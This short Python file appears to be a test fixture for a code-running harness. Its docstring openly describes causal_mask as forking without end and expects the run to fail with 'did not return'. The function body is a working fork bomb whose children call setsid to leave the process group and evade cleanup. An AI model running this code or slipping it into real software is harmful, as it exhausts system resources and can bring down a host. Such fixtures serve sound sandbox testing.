"""causal_mask forks without end; the children leave the process group.

loses: causal_mask
message: did not return
"""
import os


def causal_mask(n_q, n_k):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
